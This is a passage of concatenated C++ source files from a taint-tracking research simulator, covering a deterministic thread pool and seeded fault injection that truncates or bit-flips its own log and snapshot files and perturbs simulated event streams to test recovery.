{
    static std::mutex m;
    static std::vector<std::shared_ptr<ThreadPool>> retired;
    static std::shared_ptr<ThreadPool> pool;
    std::lock_guard<std::mutex> lock(m);
    if (!pool) {
        pool = std::make_shared<ThreadPool>(want ? want : 1);
    } else if (want > pool->threads()) {
        retired.push_back(pool);
        pool = std::make_shared<ThreadPool>(want);
    }
    return pool;
}

} // anonymous namespace

ThreadPool &
globalPool()
{
    return *acquireGlobalPool(defaultJobs());
}

void
parallelFor(size_t n, const std::function<void(size_t)> &fn,
            unsigned jobs)
{
    unsigned resolved = jobs ? jobs : defaultJobs();
    if (resolved <= 1 || n <= 1) {
        for (size_t i = 0; i < n; ++i)
            fn(i);
        return;
    }
    acquireGlobalPool(resolved)->forEach(n, fn, resolved);
}

} // namespace pift::exec
