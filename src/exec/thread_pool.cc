#include "exec/thread_pool.hh"

#include <atomic>
#include <cstdlib>
#include <cstring>
#include <exception>

namespace pift::exec
{

namespace
{

/** Active setDefaultJobs override; 0 = none. */
std::atomic<unsigned> g_jobs_override{0};

/** Set while the current thread is running pool tasks (see forEach). */
thread_local bool t_in_worker = false;

unsigned
envJobs()
{
    const char *s = std::getenv("PIFT_JOBS");
    if (!s || !*s)
        return 0;
    char *end = nullptr;
    long v = std::strtol(s, &end, 10);
    if (*end || v < 1)
        return 0; // malformed values fall back to hardware detection
    return static_cast<unsigned>(v);
}

} // anonymous namespace

unsigned
hardwareJobs()
{
    if (unsigned env = envJobs())
        return env;
    unsigned hw = std::thread::hardware_concurrency();
    return hw ? hw : 1;
}

unsigned
defaultJobs()
{
    unsigned o = g_jobs_override.load(std::memory_order_relaxed);
    return o ? o : hardwareJobs();
}

void
setDefaultJobs(unsigned n)
{
    g_jobs_override.store(n, std::memory_order_relaxed);
}

int
stripJobsFlag(int argc, char **argv)
{
    int out = 1;
    for (int i = 1; i < argc; ++i) {
        const char *arg = argv[i];
        const char *value = nullptr;
        if (std::strcmp(arg, "--jobs") == 0) {
            if (i + 1 >= argc)
                return -1;
            value = argv[++i];
        } else if (std::strncmp(arg, "--jobs=", 7) == 0) {
            value = arg + 7;
        } else {
            argv[out++] = argv[i];
            continue;
        }
        char *end = nullptr;
        long v = std::strtol(value, &end, 10);
        if (!*value || *end || v < 1)
            return -1;
        setDefaultJobs(static_cast<unsigned>(v));
    }
    return out;
}

/** One forEach call in flight: the task grid plus join state. */
struct ThreadPool::Batch
{
    size_t n = 0;
    const std::function<void(size_t)> *fn = nullptr;
    std::atomic<size_t> next{0};      //!< next unclaimed index
    std::atomic<bool> cancelled{false};
    std::exception_ptr error;         //!< guarded by pool mutex
    unsigned quota = 0;               //!< workers allowed to join
    unsigned joined = 0;              //!< workers that did join
    unsigned active = 0;              //!< participants still running
};

ThreadPool::ThreadPool(unsigned threads)
    : nthreads(threads ? threads : defaultJobs())
{
    if (nthreads < 1)
        nthreads = 1;
    workers.reserve(nthreads - 1);
    for (unsigned i = 0; i + 1 < nthreads; ++i)
        workers.emplace_back([this] { workerLoop(); });
}

ThreadPool::~ThreadPool()
{
    {
        std::lock_guard<std::mutex> lock(mutex);
        stopping = true;
    }
    work_cv.notify_all();
    for (auto &w : workers)
        w.join();
}

void
ThreadPool::runBatch(Batch &b)
{
    t_in_worker = true;
    size_t i;
    while (!b.cancelled.load(std::memory_order_relaxed) &&
           (i = b.next.fetch_add(1, std::memory_order_relaxed)) < b.n) {
        try {
            (*b.fn)(i);
        } catch (...) {
            std::lock_guard<std::mutex> lock(mutex);
            if (!b.error)
                b.error = std::current_exception();
            b.cancelled.store(true, std::memory_order_relaxed);
        }
    }
    t_in_worker = false;
}

void
ThreadPool::workerLoop()
{
    uint64_t seen = 0;
    std::unique_lock<std::mutex> lock(mutex);
    for (;;) {
        work_cv.wait(lock, [&] {
            return stopping || (batch && generation != seen);
        });
        if (stopping)
            return;
        seen = generation;
        Batch *b = batch;
        if (b->joined >= b->quota)
            continue; // this batch is capped below the pool size
        ++b->joined;
        ++b->active;
        lock.unlock();
        runBatch(*b);
        lock.lock();
        if (--b->active == 0)
            done_cv.notify_all();
    }
}

void
ThreadPool::forEach(size_t n, const std::function<void(size_t)> &fn,
                    unsigned max_jobs)
{
    unsigned jobs = max_jobs ? std::min(max_jobs, nthreads) : nthreads;
    // Inline paths: trivial grids, one-way parallelism, and nested
    // calls from inside a task (a worker must never block on its own
    // pool). Exceptions propagate naturally here.
    if (n <= 1 || jobs <= 1 || t_in_worker) {
        for (size_t i = 0; i < n; ++i)
            fn(i);
        return;
    }

    std::lock_guard<std::mutex> submit(submit_mutex);
    Batch b;
    b.n = n;
    b.fn = &fn;
    b.quota = jobs - 1; // the calling thread is the jobs-th participant
    {
        std::lock_guard<std::mutex> lock(mutex);
        b.active = 1; // the caller, counted so done_cv waits for it
        batch = &b;
        ++generation;
    }
    work_cv.notify_all();
    runBatch(b);
    {
        std::unique_lock<std::mutex> lock(mutex);
        // Un-publish first: a worker that wakes late finds no batch
        // and never touches &b after this frame unwinds.
        batch = nullptr;
        --b.active;
        done_cv.wait(lock, [&] { return b.active == 0; });
    }
    if (b.error)
        std::rethrow_exception(b.error);
}

ThreadPool &
globalPool()
{
    static ThreadPool pool(defaultJobs());
    return pool;
}

void
parallelFor(size_t n, const std::function<void(size_t)> &fn,
            unsigned jobs)
{
    unsigned resolved = jobs ? jobs : defaultJobs();
    if (resolved <= 1 || n <= 1) {
        for (size_t i = 0; i < n; ++i)
            fn(i);
        return;
    }
    globalPool().forEach(n, fn, resolved);
}

} // namespace pift::exec
