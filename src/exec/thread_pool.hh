/**
 * @file
 * Parallel execution engine (DESIGN.md §10).
 *
 * The paper's sweeps replay every registry app at every parameter
 * point; the replays are independent (each worker owns its tracker
 * and store), so the sweep drivers fan the (cell, app) task grid over
 * a fixed-size thread pool. Hardware-assisted DIFT gets its low
 * overhead by moving tracking off the critical path; the software
 * model mirrors that by exploiting the same independence.
 *
 * Determinism contract: parallelFor(n, fn) invokes fn(i) exactly once
 * for every i in [0, n) (scheduling order unspecified), and
 * parallelMap stores fn(items[i]) at result index i — so any caller
 * that reduces the indexed results in a fixed order gets byte-
 * identical output at every job count, including --jobs 1.
 *
 * Exception contract: the first exception thrown by any task is
 * captured, remaining unstarted tasks are cancelled, and the
 * exception is rethrown on the calling thread after the join.
 *
 * Job-count resolution: an explicit per-call count wins, then a
 * process-wide override (setDefaultJobs — the --jobs flag), then the
 * PIFT_JOBS environment variable, then the hardware thread count.
 * One job means "run inline on the calling thread" — no pool, no
 * synchronization, bit-identical to the historical serial loops.
 */

#ifndef PIFT_EXEC_THREAD_POOL_HH
#define PIFT_EXEC_THREAD_POOL_HH

#include <condition_variable>
#include <cstdint>
#include <functional>
#include <memory>
#include <mutex>
#include <optional>
#include <thread>
#include <vector>

namespace pift::exec
{

/**
 * Job count from the environment/hardware: PIFT_JOBS when set to a
 * positive integer, else std::thread::hardware_concurrency(), never
 * less than 1.
 */
unsigned hardwareJobs();

/**
 * The process-wide default parallelism: the setDefaultJobs override
 * when one is active, else hardwareJobs().
 */
unsigned defaultJobs();

/**
 * Override defaultJobs() process-wide (the --jobs flag). @p n == 0
 * clears the override. Takes effect immediately: a wider override
 * than the live shared pool rebuilds it on the next parallelFor /
 * globalPool call (see globalPool), so a late --jobs is honored
 * instead of being silently capped at the original pool size.
 */
void setDefaultJobs(unsigned n);

/**
 * Consume a `--jobs N` / `--jobs=N` argument from @p argv (any
 * position past argv[0]), apply it via setDefaultJobs, and compact
 * argv. @return the new argc, or -1 on a malformed value (caller
 * prints usage). No flag present is not an error.
 */
int stripJobsFlag(int argc, char **argv);

/**
 * Fixed-size pool of worker threads. The size is the total
 * parallelism of a forEach call *including* the calling thread, so a
 * ThreadPool(1) spawns no workers and runs inline. Pools are
 * reusable: forEach may be called any number of times; concurrent
 * forEach calls from different threads serialize.
 */
class ThreadPool
{
  public:
    /** @param threads total parallelism; 0 = defaultJobs(). */
    explicit ThreadPool(unsigned threads = 0);
    ~ThreadPool();

    ThreadPool(const ThreadPool &) = delete;
    ThreadPool &operator=(const ThreadPool &) = delete;

    /** Total parallelism (worker threads + the calling thread). */
    unsigned threads() const { return nthreads; }

    /**
     * Invoke fn(i) once for every i in [0, n), distributing indices
     * over at most @p max_jobs threads (0 = all of them). Blocks
     * until every started task finished; rethrows the first captured
     * exception. Nested calls from inside a task run inline.
     */
    void forEach(size_t n, const std::function<void(size_t)> &fn,
                 unsigned max_jobs = 0);

  private:
    struct Batch;

    void workerLoop();
    void runBatch(Batch &b);

    unsigned nthreads;
    std::vector<std::thread> workers;

    std::mutex mutex;
    std::condition_variable work_cv; //!< workers: new batch / stop
    std::condition_variable done_cv; //!< caller: batch fully drained
    Batch *batch = nullptr;          //!< current batch (null = none)
    uint64_t generation = 0;         //!< bumped per forEach
    bool stopping = false;

    std::mutex submit_mutex; //!< serializes concurrent forEach calls
};

/**
 * The process-wide pool. Created on first use with defaultJobs() and
 * rebuilt wider when a later setDefaultJobs (or an explicit per-call
 * jobs count) exceeds its size; the previous pool is kept alive for
 * the process lifetime so references handed out earlier stay valid.
 */
ThreadPool &globalPool();

/**
 * Run fn(0..n-1) with @p jobs-way parallelism (0 = defaultJobs()) on
 * the shared pool. jobs == 1 runs inline with zero pool interaction.
 */
void parallelFor(size_t n, const std::function<void(size_t)> &fn,
                 unsigned jobs = 0);

/**
 * Map @p fn over @p items with @p jobs-way parallelism. Result i is
 * fn(items[i]) — ordering is deterministic regardless of scheduling.
 * Only fn's results are ever constructed, so the result type need
 * not be default-constructible.
 */
template <typename T, typename Fn>
auto
parallelMap(const std::vector<T> &items, Fn fn, unsigned jobs = 0)
{
    using R = std::decay_t<decltype(fn(items[size_t(0)]))>;
    // One std::optional per slot, in a raw array rather than a
    // std::vector: vector<bool>-style proxies would let neighbouring
    // writes race, and the optionals mean each slot is constructed
    // exactly once, from fn's return value.
    std::unique_ptr<std::optional<R>[]> slots(
        new std::optional<R>[items.size()]);
    parallelFor(
        items.size(),
        [&](size_t i) { slots[i].emplace(fn(items[i])); }, jobs);
    std::vector<R> out;
    out.reserve(items.size());
    for (size_t i = 0; i < items.size(); ++i)
        out.push_back(std::move(*slots[i]));
    return out;
}

} // namespace pift::exec

#endif // PIFT_EXEC_THREAD_POOL_HH
