#include "faults/crash_point.hh"

#include "persist/durable.hh"
#include "persist/wal.hh"
#include "persist/wire.hh"
#include "support/rng.hh"

namespace pift::faults
{

namespace
{

const char *
targetName(CrashTarget t)
{
    return t == CrashTarget::Wal ? "wal" : "snapshot";
}

const char *
modeName(CrashMode m)
{
    return m == CrashMode::Truncate ? "truncate" : "bitflip";
}

uint64_t
targetSize(const CrashPoint &p, uint64_t wal_bytes,
           uint64_t snapshot_bytes)
{
    return p.target == CrashTarget::Wal ? wal_bytes : snapshot_bytes;
}

} // anonymous namespace

std::string
crashPointName(const CrashPoint &point)
{
    std::string name = std::string(targetName(point.target)) + "@" +
        modeName(point.mode) + ":" + std::to_string(point.offset);
    if (point.mode == CrashMode::BitFlip)
        name += "." + std::to_string(point.bit);
    return name;
}

std::vector<CrashPoint>
planCrashPoints(uint64_t wal_bytes, uint64_t snapshot_bytes,
                uint64_t seed, size_t count)
{
    std::vector<CrashPoint> plan;

    // Structural edges first: empty file, mid-header, the exact
    // header boundary, and one frame boundary. These are where an
    // off-by-one in the reader would hide.
    plan.push_back({CrashTarget::Wal, CrashMode::Truncate, 0, 0});
    if (wal_bytes >= persist::wal_header_bytes) {
        plan.push_back({CrashTarget::Wal, CrashMode::Truncate,
                        persist::wal_header_bytes / 2, 0});
        plan.push_back({CrashTarget::Wal, CrashMode::Truncate,
                        persist::wal_header_bytes, 0});
    }
    if (wal_bytes >=
        persist::wal_header_bytes + persist::wal_frame_bytes) {
        plan.push_back(
            {CrashTarget::Wal, CrashMode::Truncate,
             persist::wal_header_bytes + persist::wal_frame_bytes, 0});
    }
    if (snapshot_bytes > 0) {
        plan.push_back(
            {CrashTarget::Snapshot, CrashMode::Truncate, 0, 0});
        // Last byte of the snapshot: the CRC trailer itself.
        plan.push_back({CrashTarget::Snapshot, CrashMode::BitFlip,
                        snapshot_bytes - 1, 0});
    }

    Rng rng(seed);
    while (plan.size() < count) {
        CrashPoint p;
        p.target = (snapshot_bytes > 0 && rng.chance(1, 3))
            ? CrashTarget::Snapshot
            : CrashTarget::Wal;
        uint64_t size = targetSize(p, wal_bytes, snapshot_bytes);
        p.mode = (size > 0 && rng.chance(1, 2)) ? CrashMode::BitFlip
                                                : CrashMode::Truncate;
        if (p.mode == CrashMode::Truncate) {
            p.offset = rng.below(size + 1);
        } else {
            p.offset = rng.below(size);
            p.bit = static_cast<uint8_t>(rng.below(8));
        }
        plan.push_back(p);
    }
    return plan;
}

Status
applyCrashPoint(const CrashPoint &point, const std::string &dir)
{
    const std::string path = point.target == CrashTarget::Wal
        ? persist::walPath(dir)
        : persist::snapshotPath(dir);

    std::string bytes;
    if (Status s = persist::readFileBytes(path, bytes); !s.ok())
        return s;

    if (point.mode == CrashMode::Truncate) {
        if (point.offset > bytes.size())
            return Status::error(crashPointName(point) +
                                 ": offset past end of " + path);
        bytes.resize(point.offset);
    } else {
        if (point.offset >= bytes.size())
            return Status::error(crashPointName(point) +
                                 ": offset past end of " + path);
        bytes[point.offset] = static_cast<char>(
            static_cast<uint8_t>(bytes[point.offset]) ^
            (1u << (point.bit & 7)));
    }
    return persist::writeFileBytes(path, bytes);
}

} // namespace pift::faults
