/**
 * @file
 * Crash-point fault injection for durable state (DESIGN.md §11).
 *
 * The persistence layer claims that a crash at *any* byte of its
 * on-disk artifacts is recoverable: either the recovered state is an
 * exact prefix of the uncrashed run, or the corruption is detected
 * and verdicts degrade. This module manufactures the crashes so the
 * claim can be tested instead of asserted:
 *
 *  - Truncate models the kill-at-offset crash: the file ends
 *    mid-frame exactly as an interrupted append would leave it.
 *  - BitFlip models media corruption: one bit anywhere in the file,
 *    which a checksum must catch.
 *
 * planCrashPoints() draws a deterministic set of (target, mode,
 * offset, bit) points from a seeded splitmix64 stream, covering both
 * files across their whole length plus the structural hot spots
 * (header boundary, frame boundaries, empty file). The same (seed,
 * sizes) always yields the same plan, so a failing point reproduces
 * from its log line alone.
 */

#ifndef PIFT_FAULTS_CRASH_POINT_HH
#define PIFT_FAULTS_CRASH_POINT_HH

#include <cstdint>
#include <string>
#include <vector>

#include "support/expected.hh"

namespace pift::faults
{

/** Which durable artifact the crash hits. */
enum class CrashTarget : uint8_t
{
    Wal = 0,  //!< wal.pift (expected outcome: exact, shorter prefix)
    Snapshot  //!< snapshot.pift (expected outcome: exact or detected)
};

/** How the crash mangles the file. */
enum class CrashMode : uint8_t
{
    Truncate = 0, //!< cut the file to `offset` bytes (torn write)
    BitFlip       //!< flip bit `bit` of byte `offset` (corruption)
};

/** One point in the crash sweep. */
struct CrashPoint
{
    CrashTarget target = CrashTarget::Wal;
    CrashMode mode = CrashMode::Truncate;
    uint64_t offset = 0; //!< byte offset (Truncate: new length)
    uint8_t bit = 0;     //!< bit index for BitFlip
};

/** Printable "wal@truncate:123" form for logs and failure reports. */
std::string crashPointName(const CrashPoint &point);

/**
 * Draw a deterministic crash plan for artifacts of the given sizes.
 * Offsets are uniform over [0, size] for truncation (size = crash
 * before anything was cut) and [0, size) for bit flips; targets and
 * modes alternate through the stream. Structural edges (offset 0,
 * the WAL header boundary, a mid-header cut) are always included
 * first so the sweep cannot miss them at small @p count.
 *
 * @param wal_bytes size of the WAL file being attacked
 * @param snapshot_bytes size of the snapshot file (0 = none exists;
 *        snapshot points are skipped)
 * @param seed plan seed; equal inputs give equal plans
 * @param count total points to draw (minimum: the structural edges)
 */
std::vector<CrashPoint> planCrashPoints(uint64_t wal_bytes,
                                        uint64_t snapshot_bytes,
                                        uint64_t seed, size_t count);

/**
 * Apply @p point to the artifacts in state directory @p dir:
 * truncate or bit-flip the targeted file in place. Fails when the
 * targeted file is missing or shorter than the point assumes.
 */
Status applyCrashPoint(const CrashPoint &point,
                       const std::string &dir);

} // namespace pift::faults

#endif // PIFT_FAULTS_CRASH_POINT_HH
