#include "faults/fault_injector.hh"

#include <algorithm>

#include "support/logging.hh"
#include "telemetry/registry.hh"

namespace pift::faults
{

namespace
{

/** Injected-fault instruments, one counter per fault class. */
struct FaultTel
{
    telemetry::Counter &drops = telemetry::counter("faults.drops");
    telemetry::Counter &dups = telemetry::counter("faults.dups");
    telemetry::Counter &reorders =
        telemetry::counter("faults.reorders");
    telemetry::Counter &corrupts =
        telemetry::counter("faults.corrupts");
    telemetry::Counter &insert_fails =
        telemetry::counter("faults.insert_fails");
    telemetry::Counter &forced_evicts =
        telemetry::counter("faults.forced_evicts");
};

FaultTel &
ftel()
{
    static FaultTel t;
    return t;
}

} // anonymous namespace

// --------------------------------------------------------------------
// FaultyStream

void
FaultyStream::deliver(const sim::TraceRecord &rec)
{
    down.onRecord(rec);
    drainDue();
}

void
FaultyStream::drainDue()
{
    // A delivered record "passes" every pending reordered record;
    // those whose delay is spent are emitted after it.
    for (auto &p : pending) {
        if (p.remaining > 0)
            --p.remaining;
    }
    while (!pending.empty() && pending.front().remaining == 0) {
        sim::TraceRecord rec = pending.front().rec;
        pending.pop_front();
        down.onRecord(rec);
    }
}

void
FaultyStream::onRecord(const sim::TraceRecord &rec)
{
    FaultStats &stat = inj.mutableStats();
    ++stat.records_seen;
    const FaultConfig &cfg = inj.config();

    if (inj.roll(cfg.drop_num)) {
        // The front-end FIFO overflowed: the event is gone, but the
        // overflow is architecturally visible — announce the loss.
        ++stat.dropped;
        ftel().drops.inc();
        pift_warn_limited(3, "fault: dropped event for pid %u",
                          rec.pid);
        // Recorded before the loss announcement so the injected fault
        // is the earliest degradation record explain() can resolve.
        PIFT_PROV(inj.recorder(),
                  record(provenance::ProvKind::FaultInjected,
                         provenance::ProvCause::InjectedDrop, rec.pid,
                         rec.mem_start, rec.mem_end));
        if (loss_cb)
            loss_cb(rec.pid);
        drainDue();
        return;
    }

    sim::TraceRecord out = rec;
    if (rec.mem_kind != sim::MemKind::None &&
        inj.roll(cfg.corrupt_num)) {
        // Undetected bus corruption: the address range arrives
        // shifted. Nobody is told — this is the silent integrity
        // fault class (excluded from the no-silent-FN invariant).
        ++stat.corrupted;
        ftel().corrupts.inc();
        uint64_t size =
            static_cast<uint64_t>(out.mem_end) - out.mem_start;
        int64_t delta = static_cast<int64_t>(inj.draw(256)) - 128;
        int64_t start = static_cast<int64_t>(out.mem_start) + delta;
        start = std::clamp<int64_t>(start, 0,
                                    0xffffffffll -
                                        static_cast<int64_t>(size));
        out.mem_start = static_cast<Addr>(start);
        out.mem_end = static_cast<Addr>(start + static_cast<int64_t>(size));
    }

    if (inj.roll(cfg.reorder_num)) {
        // Hold the record back for 1..k successor records.
        ++stat.reordered;
        ftel().reorders.inc();
        unsigned delay = 1 +
            static_cast<unsigned>(inj.draw(cfg.reorder_window));
        pending.push_back({out, delay});
        return;
    }

    deliver(out);
    if (inj.roll(cfg.dup_num)) {
        ++stat.duplicated;
        ftel().dups.inc();
        deliver(out);
    }
}

void
FaultyStream::onControl(const sim::ControlEvent &ev)
{
    // Software commands are synchronous with the module; everything
    // the hardware already captured must land first.
    flush();
    down.onControl(ev);
}

void
FaultyStream::flush()
{
    while (!pending.empty()) {
        sim::TraceRecord rec = pending.front().rec;
        pending.pop_front();
        down.onRecord(rec);
    }
}

// --------------------------------------------------------------------
// FaultyTaintStore

bool
FaultyTaintStore::query(ProcId pid, const taint::AddrRange &r)
{
    return store.query(pid, r);
}

bool
FaultyTaintStore::insert(ProcId pid, const taint::AddrRange &r)
{
    FaultStats &stat = inj.mutableStats();
    const FaultConfig &cfg = inj.config();

    if (inj.roll(cfg.insert_fail_num)) {
        // The storage write never lands; the process loses taint and
        // is marked saturated so later negatives degrade.
        ++stat.insert_fails;
        ftel().insert_fails.inc();
        PIFT_PROV(inj.recorder(),
                  record(provenance::ProvKind::FaultInjected,
                         provenance::ProvCause::InjectedInsertFail,
                         pid, r.start, r.end));
        fault_saturated.insert(pid);
        pift_warn_limited(3, "fault: taint insert failed for pid %u",
                          pid);
        return false;
    }

    bool changed = store.insert(pid, r);

    // Remember the range as a potential forced-eviction victim.
    if (history.size() < history_cap) {
        history.emplace_back(pid, r);
    } else {
        history[history_next] = {pid, r};
        history_next = (history_next + 1) % history_cap;
    }

    if (inj.roll(cfg.forced_evict_num) && !history.empty()) {
        // A storage cell dies under a held entry: the range is gone
        // and the owner is saturated.
        ++stat.forced_evicts;
        ftel().forced_evicts.inc();
        const auto &[vpid, vrange] =
            history[inj.draw(history.size())];
        PIFT_PROV(inj.recorder(),
                  record(provenance::ProvKind::FaultInjected,
                         provenance::ProvCause::InjectedForcedEvict,
                         vpid, vrange.start, vrange.end));
        store.remove(vpid, vrange);
        fault_saturated.insert(vpid);
        pift_warn_limited(3, "fault: forced eviction for pid %u",
                          vpid);
    }
    return changed;
}

bool
FaultyTaintStore::remove(ProcId pid, const taint::AddrRange &r)
{
    return store.remove(pid, r);
}

void
FaultyTaintStore::clear()
{
    store.clear();
    fault_saturated.clear();
    history.clear();
    history_next = 0;
}

uint64_t
FaultyTaintStore::bytes() const
{
    return store.bytes();
}

size_t
FaultyTaintStore::rangeCount() const
{
    return store.rangeCount();
}

bool
FaultyTaintStore::saturated(ProcId pid) const
{
    return fault_saturated.count(pid) > 0 || store.saturated(pid);
}

void
FaultyTaintStore::clearSaturation()
{
    fault_saturated.clear();
    store.clearSaturation();
}

} // namespace pift::faults
