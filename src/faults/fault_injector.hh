/**
 * @file
 * Deterministic fault injection for the PIFT hardware/software stack.
 *
 * The paper's deployment story (Section 3.3) keeps the PIFT module
 * off the critical path by letting it shed work under pressure: a
 * full range cache may LRU-drop or refuse insertions ("cost only
 * false negatives, never false positives"), and related
 * DIFT-coprocessor work (Wahab et al., PAGURUS) treats lost or
 * decoupled tag events as the central engineering problem. This
 * module makes those failure modes injectable and measurable:
 *
 *  - FaultyStream interposes on the retired-instruction event stream
 *    and can drop, duplicate, reorder-within-k, or corrupt records;
 *  - FaultyTaintStore interposes on any TaintStore and injects failed
 *    inserts and forced evictions;
 *  - FaultInjector::commandFaultHook() plugs transient command-port
 *    errors into core::HwModule.
 *
 * Fault classes and guarantees:
 *
 *  - *Loss faults* (drop, failed insert, forced evict, command error)
 *    can only remove taint. They are announced to the tracker
 *    (noteStreamLoss / saturation), so every sink check that might be
 *    a false negative degrades to MaybeTainted — never a silent miss.
 *    The degradation sweep asserts this invariant.
 *  - *Integrity faults* (duplicate, reorder, corrupt) model bus
 *    errors that slip past detection. Corruption is applied without
 *    notification (an undetected flipped address cannot be known to
 *    the module) and is therefore excluded from the no-silent-FN
 *    invariant; it exists to measure how the heuristic's accuracy
 *    erodes when the front-end lies.
 *
 * Everything is driven by one seeded splitmix64 stream in event
 * order, so a (config, trace) pair reproduces the exact same fault
 * pattern every run — byte-identical sweep tables.
 */

#ifndef PIFT_FAULTS_FAULT_INJECTOR_HH
#define PIFT_FAULTS_FAULT_INJECTOR_HH

#include <cstdint>
#include <deque>
#include <functional>
#include <unordered_set>
#include <vector>

#include "core/pift_tracker.hh"
#include "core/taint_store.hh"
#include "provenance/recorder.hh"
#include "sim/trace.hh"
#include "support/rng.hh"
#include "support/types.hh"

namespace pift::faults
{

/**
 * Fault probabilities as numerators over @ref rate_den, so configs
 * are exact integers (no float drift between sweep runs).
 */
struct FaultConfig
{
    uint64_t seed = 1;               //!< RNG seed; equal seed = equal faults
    uint32_t rate_den = 1'000'000;   //!< denominator for every *_num rate

    /// @name Event-stream faults (per retired-instruction record)
    /// @{
    uint32_t drop_num = 0;      //!< lose the record (announced loss)
    uint32_t dup_num = 0;       //!< deliver the record twice
    uint32_t reorder_num = 0;   //!< delay the record within k successors
    uint32_t corrupt_num = 0;   //!< shift the address range (silent)
    unsigned reorder_window = 4; //!< k for reorder-within-k
    /// @}

    /// @name Storage / command-port faults
    /// @{
    uint32_t insert_fail_num = 0;  //!< taint insert silently refused
    uint32_t forced_evict_num = 0; //!< a held range forcibly evicted
    uint32_t cmd_error_num = 0;    //!< transient command-port error
    /// @}

    /** Convenience: scale all event-loss faults to one rate. */
    static FaultConfig
    eventLoss(uint64_t seed, uint32_t num, uint32_t den = 1'000'000)
    {
        FaultConfig c;
        c.seed = seed;
        c.rate_den = den;
        c.drop_num = num;
        return c;
    }
};

/** Counters of every fault actually injected. */
struct FaultStats
{
    uint64_t records_seen = 0;   //!< records offered to the stream
    uint64_t dropped = 0;        //!< records lost
    uint64_t duplicated = 0;     //!< records delivered twice
    uint64_t reordered = 0;      //!< records delivered late
    uint64_t corrupted = 0;      //!< records with mangled addresses
    uint64_t insert_fails = 0;   //!< storage inserts refused
    uint64_t forced_evicts = 0;  //!< storage entries forcibly removed
    uint64_t cmd_errors = 0;     //!< command-port transients

    /** Total faults injected across every class. */
    uint64_t
    total() const
    {
        return dropped + duplicated + reordered + corrupted +
            insert_fails + forced_evicts + cmd_errors;
    }

    /** Loss-class faults only (the announced, FN-only kind). */
    uint64_t
    lossFaults() const
    {
        return dropped + insert_fails + forced_evicts + cmd_errors;
    }
};

/**
 * The seeded fault source shared by every interposer of one run.
 * All probability draws flow through here in event order, which is
 * what makes a run reproducible from (seed, trace) alone.
 */
class FaultInjector
{
  public:
    explicit FaultInjector(const FaultConfig &config)
        : cfg(config), rng(config.seed)
    {}

    const FaultConfig &config() const { return cfg; }
    const FaultStats &stats() const { return stat; }

    /** Bernoulli draw at @p num / config().rate_den. */
    bool
    roll(uint32_t num)
    {
        if (num == 0)
            return false;
        return rng.chance(num, cfg.rate_den);
    }

    /** Uniform value in [0, bound). */
    uint64_t draw(uint64_t bound) { return rng.below(bound); }

    /**
     * Hook for core::HwModule::setCommandFaultHook — injects
     * transient command-port errors at cmd_error_num.
     */
    std::function<bool()>
    commandFaultHook()
    {
        return [this] {
            if (!roll(cfg.cmd_error_num))
                return false;
            ++stat.cmd_errors;
            PIFT_PROV(recorder(),
                      recordGlobal(
                          provenance::ProvKind::FaultInjected,
                          provenance::ProvCause::InjectedCmdError));
            return true;
        };
    }

    /** Counters are exposed mutable to the interposers below. */
    FaultStats &mutableStats() { return stat; }

    /**
     * Attach a provenance flight recorder (may be null). Every
     * interposer drawing from this injector emits a FaultInjected
     * record *before* announcing the loss, so the earliest degradation
     * record a MaybeTainted explanation resolves to is the injected
     * fault itself. No-op in PIFT_PROVENANCE=OFF builds.
     */
    void
    setRecorder(provenance::Recorder *rec)
    {
#if defined(PIFT_PROVENANCE_ENABLED)
        recorder_ = rec;
#else
        (void)rec;
#endif
    }

#if defined(PIFT_PROVENANCE_ENABLED)
    provenance::Recorder *recorder() const { return recorder_; }
#else
    provenance::Recorder *recorder() const { return nullptr; }
#endif

  private:
    FaultConfig cfg;
    Rng rng;
    FaultStats stat;
#if defined(PIFT_PROVENANCE_ENABLED)
    provenance::Recorder *recorder_ = nullptr;
#endif
};

/**
 * TraceSink interposer: sits between the event source (replay or a
 * live hub) and a downstream sink, injecting the configured
 * event-stream faults. Dropped records are announced through the
 * loss callback (in hardware: the front-end FIFO's overflow counter),
 * so the tracker can degrade verdicts for the affected process.
 *
 * Control events always flush pending reordered records first:
 * faults perturb the hardware event stream, not the software command
 * interleaving.
 */
class FaultyStream : public sim::TraceSink
{
  public:
    /** Loss announcement: process whose events were lost. */
    using LossCallback = std::function<void(ProcId)>;

    FaultyStream(FaultInjector &injector, sim::TraceSink &downstream,
                 LossCallback on_loss = {})
        : inj(injector), down(downstream), loss_cb(std::move(on_loss))
    {}

    /** Wire a tracker as both downstream and loss listener. */
    FaultyStream(FaultInjector &injector, core::PiftTracker &tracker)
        : inj(injector), down(tracker),
          loss_cb([&tracker](ProcId pid) {
              tracker.noteStreamLoss(pid);
          })
    {}

    void onRecord(const sim::TraceRecord &rec) override;
    void onControl(const sim::ControlEvent &ev) override;

    /** Deliver every still-pending reordered record (end of run). */
    void flush();

  private:
    struct Pending
    {
        sim::TraceRecord rec;
        unsigned remaining; //!< records still to pass before delivery
    };

    void deliver(const sim::TraceRecord &rec);
    void drainDue();

    FaultInjector &inj;
    sim::TraceSink &down;
    LossCallback loss_cb;
    std::deque<Pending> pending;
};

/**
 * TaintStore interposer: wraps any backend and injects storage-layer
 * faults. A failed insert refuses the range; a forced evict removes a
 * recently stored range (a storage cell dying under the entry). Both
 * mark the affected process saturated, so sink checks degrade to
 * MaybeTainted exactly like a real LruDrop/DropNew loss.
 */
class FaultyTaintStore : public core::TaintStore
{
  public:
    FaultyTaintStore(FaultInjector &injector, core::TaintStore &inner)
        : inj(injector), store(inner)
    {}

    bool query(ProcId pid, const taint::AddrRange &r) override;
    bool insert(ProcId pid, const taint::AddrRange &r) override;
    bool remove(ProcId pid, const taint::AddrRange &r) override;
    void clear() override;
    uint64_t bytes() const override;
    size_t rangeCount() const override;

    bool saturated(ProcId pid) const override;
    void clearSaturation() override;

  private:
    /** Ranges remembered as forced-eviction victims. */
    static constexpr size_t history_cap = 32;

    FaultInjector &inj;
    core::TaintStore &store;
    std::unordered_set<ProcId> fault_saturated;
    std::vector<std::pair<ProcId, taint::AddrRange>> history;
    size_t history_next = 0;
};

} // namespace pift::faults

#endif // PIFT_FAULTS_FAULT_INJECTOR_HH
