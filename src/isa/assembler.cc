#include "isa/assembler.hh"

#include "support/logging.hh"

namespace pift::isa
{

Addr
Program::labelAddr(const std::string &name) const
{
    auto it = labels.find(name);
    if (it == labels.end())
        pift_panic("unknown label '%s'", name.c_str());
    return it->second;
}

Operand2
imm(int32_t value)
{
    Operand2 o;
    o.is_imm = true;
    o.imm = value;
    return o;
}

Operand2
reg(RegIndex r)
{
    Operand2 o;
    o.is_imm = false;
    o.reg = r;
    return o;
}

static Operand2
